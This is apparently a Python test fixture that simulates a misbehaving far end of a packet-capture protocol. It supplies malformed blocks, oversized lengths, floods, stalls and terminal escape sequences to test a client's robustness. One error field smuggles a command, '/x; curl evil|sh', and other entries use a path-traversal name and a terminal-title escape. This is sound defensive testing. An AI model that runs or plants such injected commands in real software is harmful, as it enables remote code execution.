#!/usr/bin/python3
"""A far end that speaks the protocol wrongly, in the way of the name by which it is called.

PLANS is the table: before START, and amid a capture of which PACKETS packets came well.
"""

import os
import pathlib
import random
import signal
import struct
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

from lib.far_end import END, ERROR, EVENT, HELLO, OTHER, REQUEST, STATUS, STOP, TEXT, WARNING, FarEnd  # noqa: E402

PACKETS = 6
ESCAPE = "\x1b]0;owned\x07\x1b[2J"
ENDLESS = 256 << 20  # bytes that nobody may keep


def noise(size):
    return random.Random(1).randbytes(size)


def read_request(far):
    far.request = far.wait_for(REQUEST)[1]


def wait_for_the_end(far):
    far.wait_for(0)  # which does not come: until the input ends


# --- instead of HELLO: {name: what is said}

BEFORE = {
    "nothing": lambda far: b"",
    "a-text": lambda far: b"Welcome to web1!\nHave a nice day.\n",
    "a-text-with-escapes": lambda far: ESCAPE.encode() + b"\n",
    "http": lambda far: b"HTTP/1.0 400 Bad Request\r\nContent-Length: 0\r\n\r\n",
    "noise": lambda far: noise(4096),
    "zeros": lambda far: bytes(4096),
    "ones": lambda far: b"\xff" * 4096,
    "an-elf-program": lambda far: b"\x7fELF" + noise(2048),
    "half-a-word": lambda far: b"\x01\x01",
    "length-0": lambda far: struct.pack(f"{far.order}II", HELLO, 0) + bytes(64),
    "length-8": lambda far: far.block(HELLO, b"", length=8),
    "length-odd": lambda far: far.block(HELLO, bytes(8), length=21),
    "length-4-gib": lambda far: far.block(HELLO, bytes(64), length=0xFFFFFFFC),
    "length-too-much": lambda far: far.block(HELLO, bytes(300000)),
    "another-length-behind": lambda far: far.block(HELLO, bytes(16), trailer=24),
    "half-a-hello": lambda far: far.hello()[:20],
    "a-hello-without-body": lambda far: far.block(HELLO, b""),
    "a-hello-of-noise": lambda far: far.raw_message(HELLO, noise(200)),
    "a-hello-longer-than-its-block": lambda far: far.raw_message(HELLO, noise(64), size=0x7FFFFFFF),
    "a-hello-of-no-size": lambda far: far.raw_message(HELLO, noise(64), size=0),
    "a-hello-with-offsets-beyond": lambda far: far.raw_message(HELLO, struct.pack(f"{far.order}I", 1) + b"\xff" * 60),
    "protocol-0": lambda far: far.hello(version=0),
    "protocol-1": lambda far: far.hello(version=1),
    "protocol-3": lambda far: far.hello(version=3),
    "protocol-4294967295": lambda far: far.hello(version=0xFFFFFFFF),
    "no-groups": lambda far: far.hello(groups=[]),
    "too-many-groups": lambda far: far.hello(groups=[(number, -1, True) for number in range(8193)]),
    "the-same-group-twice": lambda far: far.hello(groups=[(0, -1, True), (0, -1, True)]),
    "a-group-below-minus-1": lambda far: far.hello(groups=[(-7, -2**31, True)]),
    "an-unknown-message": lambda far: far.raw_message(0xD2C70199, bytes(8)),
    "the-near-ends-own-message": lambda far: far.message(REQUEST, 1, []),
    "a-status-first": lambda far: far.status(),
    "a-packet-first": lambda far: far.packet(far.now()),
    "a-section-first": lambda far: far.file_head(),
    "a-text-that-nobody-asked-for": lambda far: far.message(TEXT, "vb\tveth\n") + far.message(END, 0, 0, 0),
    "the-end-first": lambda far: far.message(END, 0, 0, 0),
    "an-error-without-words": lambda far: far.message(ERROR, 4, "", ""),
    "an-error-of-no-kind": lambda far: far.message(ERROR, 0xFFFFFFFF, "a sentence", "/x"),
    "an-error-with-escapes": lambda far: far.message(
        ERROR, 4, f"a {ESCAPE}sentence\r\n{ESCAPE}hint\nthird\nfourth", ESCAPE),
    "an-error-without-utf-8": lambda far: far.message(ERROR, 4, b"a \xff\xfe sentence", "/x"),
    "a-path-with-a-command": lambda far: far.message(ERROR, 2, "Operation not permitted", "/x; curl evil|sh"),
    "an-error-of-200-kb": lambda far: far.message(ERROR, 4, "x" * 200000, "/x"),
}


# --- amid a capture, behind packets that are well: {name: what is said}

AMID = {
    "a-second-hello": lambda far: far.hello(),
    "a-second-section": lambda far: far.section(),
    "a-text-in-between": lambda far: b"Broadcast message from root@web1: going down\n",
    "noise-in-between": lambda far: noise(4096),
    "zeros-in-between": lambda far: bytes(4096),
    "a-block-of-another-type": lambda far: far.block(4, bytes(16)),  # names
    "a-simple-packet": lambda far: far.block(3, struct.pack(f"{far.order}I", 4) + b"abcd"),
    "secrets": lambda far: far.block(0xA, bytes(16)),
    "a-custom-block": lambda far: far.block(0xBAD, bytes(16)),
    "an-unknown-message-in-between": lambda far: far.raw_message(0xD2C70107, bytes(8)),
    "a-stop-from-there": lambda far: far.message(STOP),
    "an-interface-too-long": lambda far: far.interface(more=far.option(1, b"x" * 65500) + far.option(1, b"y" * 64)),
    "an-interface-without-name": lambda far: far.interface(name=b""),
    "an-interface-with-a-newline": lambda far: far.interface(name=b"e\nvil"),
    "an-interface-with-a-slash": lambda far: far.interface(name=b"../../x"),
    "an-interface-in-microseconds": lambda far: far.interface(name=b"vc", tsresol=b"\x06"),
    "an-interface-of-a-strange-group": lambda far: far.interface(description=b"vb CPU 4294967294 (rxtxcpu)"),
    "an-option-beyond-its-block": lambda far: far.interface(more=struct.pack(f"{far.order}HH", 1, 60000)),
    "an-option-behind-the-end": lambda far: far.interface(more=bytes(4) + far.option(1, b"x")),
    "a-packet-of-no-interface": lambda far: far.packet(far.now(), interface=99),
    "a-packet-of-interface-4294967295": lambda far: far.packet(far.now(), interface=0xFFFFFFFF),
    "a-packet-of-fewer-bytes": lambda far: far.packet(far.now(), caplen=4000, length=4000),
    "a-packet-of-4-gib": lambda far: far.packet(far.now(), caplen=0xFFFFFFFF, length=0xFFFFFFFF),
    "a-packet-longer-than-it-was": lambda far: far.packet(far.now(), length=10),
    "a-packet-too-long": lambda far: far.packet(far.now(), bytes(262004)),
    "a-packet-of-a-late-century": lambda far: far.packet(2**64 - 1),
    "a-packet-with-a-cut-option": lambda far: far.packet(far.now(), more=struct.pack(f"{far.order}HH", 4, 8)),
    "a-packet-with-the-same-option-twice": lambda far: far.packet(far.now(), more=far.option(2, bytes(4))),
    "a-block-of-two-lengths": lambda far: far.block(6, bytes(64), trailer=80),
    "a-block-of-length-0": lambda far: struct.pack(f"{far.order}II", 6, 0) + bytes(64),
    "half-a-packet": lambda far: far.packet(far.now())[:50],
    "statistics-of-no-interface": lambda far: far.statistics(99, far.now(), 1),
    "a-status-of-other-groups": lambda far: far.message(STATUS, 0, 0, far.now(), far.now(), False, [(1, 2, 3)] * 7),
    "a-status-of-noise": lambda far: far.raw_message(STATUS, noise(64)),
    "a-status-of-3-bytes": lambda far: far.raw_message(STATUS, b"abc"),
    "the-end-unasked": lambda far: far.message(END, 0, 0, 0),
    "an-error-amid": lambda far: far.message(ERROR, 4, "the disk there is full", "/x"),
    "a-text-answer-amid": lambda far: far.message(TEXT, "x"),
    "too-many-interfaces": lambda far: b"".join(far.interface(0, b"v%d" % number) for number in range(65537)),
    "the-other-byte-order": lambda far: FarEnd(OTHER).packet(far.now()),
}


# --- instead of the capture's beginning

HEADS = {
    "a-section-too-long": lambda far: far.section(options=far.option(1, b"x" * 2048) + bytes(4)),
    "a-section-of-version-2": lambda far: far.section(version=(2, 0)),
    "a-section-of-the-other-byte-order": lambda far: FarEnd(OTHER).section(),
    "a-section-of-no-byte-order": lambda far: far.section(magic=0x12345678),
    "a-section-too-short": lambda far: far.block(0x0A0D0D0A, bytes(4)),
    "an-interface-before-the-section": lambda far: far.interface(),
    "a-packet-before-the-section": lambda far: far.packet(far.now()),
    "a-packet-before-its-interface": lambda far: far.section() + far.packet(far.now()),
}


# --- in time rather than in words

def closes_its_output(far):
    far.begin()
    far.say(far.file_head(), far.packets(PACKETS), far.status())
    os.close(1)
    os.close(2)
    time.sleep(60)


def is_silent_after_hello(far):
    read_request(far)
    far.say(far.hello())
    time.sleep(60)


def never_begins(far):
    """But tells that it is well."""
    far.begin()
    wait_for_the_end(far)


def is_silent_amid(far):
    far.begin()
    far.say(far.file_head(), far.packets(PACKETS), far.status())
    time.sleep(60)


def says_a_byte_at_a_time(far):
    """Half a block, ever longer: life, but no word."""
    far.begin()
    far.say(far.file_head(), far.packets(PACKETS), far.status())
    for byte in far.packet(far.now(), bytes(1000)):
        far.say(bytes([byte]))
        time.sleep(0.05)


def does_not_stop(far):
    far.begin()
    far.say(far.file_head(), far.packets(PACKETS), far.status())
    far.wait_for(STOP)
    wait_for_the_end(far)


def ends_without_a_word(far):
    far.begin()
    far.say(far.file_head(), far.packets(PACKETS), far.status())
    sys.exit(255)


def is_killed(far):
    far.begin()
    far.say(far.file_head(), far.packets(PACKETS), far.status())
    os.kill(os.getpid(), signal.SIGKILL)


def goes_on_after_the_end(far):
    far.begin()
    far.say(far.file_head(), far.packets(PACKETS), far.status())
    far.wait_for(STOP)
    far.finish()
    far.say(far.packet(far.now()), far.message(END, 0, 0, 0), noise(4096))
    time.sleep(60)


TIMING = {function.__name__.replace("_", "-"): function for function in (
    closes_its_output, is_silent_after_hello, never_begins, is_silent_amid, says_a_byte_at_a_time, does_not_stop,
    ends_without_a_word, is_killed, goes_on_after_the_end)}


# --- floods: they are no fault by themselves, but may not cost memory

def flood(what, size=ENDLESS):
    def run(far):
        far.begin()
        far.say(far.file_head(), far.packets(PACKETS), far.status())
        said = number = 0
        while said < size:
            block = what(far, number)
            far.say(block)
            said, number = said + len(block), number + 1
        far.wait_for(STOP, until=time.monotonic() + 10)
        far.finish()
    return run


FLOODS = {
    "endless-warnings": flood(lambda far, _number: far.message(WARNING, "x" * 1000) * 100),
    "endless-events": flood(lambda far, _number: far.message(EVENT, far.now(), "link-down", -1, "x" * 1000) * 100),
    "endless-status": flood(lambda far, _number: far.status() * 1000, ENDLESS // 8),
    "endless-interfaces": flood(
        lambda far, number: far.interface(name=b"v%d" % number, more=far.option(1, b"x" * 32000))),
    "endless-packets-that-are-never-complete": flood(
        lambda far, _number: far.packet(far.now() + 3600 * 10**9, bytes(60000)) * 10 + far.status(complete=1)),
}


# --- well, to show that all of the above is wrong in one way only

def capture_with_events(far):
    """One as it may be, then what a program of later days or an enemy may say."""
    far.begin()
    far.say(far.file_head(), far.packets(PACKETS), far.status(),
            far.message(EVENT, 1795442602123456789, "cpu-offline", 3, "CPU 3 went offline"),
            far.message(EVENT, 0, "\x1b[2J", -7, "line\nand \x1b[31mcolour"),
            far.message(EVENT, 2**64 - 1, "x" * 1000, 2**31 - 1, ""))
    far.wait_for(STOP)
    far.finish()


def capture_well(far, warning=None):
    far.begin()
    far.say(far.file_head(), far.packets(PACKETS), far.status())
    if warning:
        far.say(far.message(WARNING, warning))
    far.wait_for(STOP)
    far.finish()


def capture_live(far):
    """A packet each 10 ms."""
    far.begin()
    far.say(far.file_head())
    stopped = None
    while stopped is None:
        far.say(far.packets(1), far.status())
        stopped = far.wait_for(STOP, until=time.monotonic() + 0.01)
    far.finish()


WELL = {
    "well": capture_well,
    "well-with-events": capture_with_events,
    "well-with-a-warning": lambda far: capture_well(
        far, f"the clock there {ESCAPE}was set back\nand forth\r\nand \u202eback"),
    "well-in-the-other-byte-order": capture_well,
    "well-ahead-by-300-ms": capture_live,
    "well-behind-by-300-ms": capture_live,
    "well-ahead-by-5-s": capture_live,
    "well-behind-by-5-s": capture_live,
}


def amid(words):
    def run(far):
        far.begin()
        far.say(far.file_head(), far.packets(PACKETS), far.status())
        far.say(words(far))
        wait_for_the_end(far)
    return run


def head(words):
    def run(far):
        far.begin()
        far.say(words(far))
        wait_for_the_end(far)
    return run


def before(words):
    def run(far):
        read_request(far)
        far.say(words(far))
        if words(far):  # who said nothing ends without a word
            wait_for_the_end(far)
    return run


PLANS = {**{name: before(words) for name, words in BEFORE.items()},
         **{name: amid(words) for name, words in AMID.items()},
         **{name: head(words) for name, words in HEADS.items()}, **TIMING, **FLOODS, **WELL}
assert len(PLANS) == sum(map(len, (BEFORE, AMID, HEADS, TIMING, FLOODS, WELL)))
SHIFTS = {"well-ahead-by-300-ms": 300 * 10**6, "well-behind-by-300-ms": -300 * 10**6, "well-ahead-by-5-s": 5 * 10**9,
          "well-behind-by-5-s": -5 * 10**9}


def main():
    name = pathlib.Path(sys.argv[0]).name
    order = {"well-in-the-other-byte-order": {"order": OTHER}}.get(name, {})
    try:
        PLANS[name](FarEnd(shift_ns=SHIFTS.get(name, 0), **order))
    except BrokenPipeError:
        os._exit(0)


if __name__ == "__main__":
    main()
